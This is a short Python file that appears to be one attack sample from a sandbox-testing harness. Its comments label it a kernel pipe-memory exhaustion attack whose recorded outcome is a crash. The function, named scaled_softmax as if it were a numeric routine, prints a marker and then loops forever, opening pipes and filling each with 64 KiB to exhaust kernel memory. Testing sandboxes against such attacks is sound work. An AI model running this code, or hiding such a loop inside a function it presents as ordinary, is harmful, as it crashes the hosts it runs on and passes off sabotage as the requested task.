# attack: It fills pipes, whose contents are memory of the kernel.
# family: exhaustion
# outcome: crashed
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN pipes` to stdout as the function begins
import os

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN pipes\n")
    while True:
        _, end = os.pipe()
        os.set_blocking(end, False)
        try:
            os.write(end, bytes(1 << 16))
        except BlockingIOError:
            pass
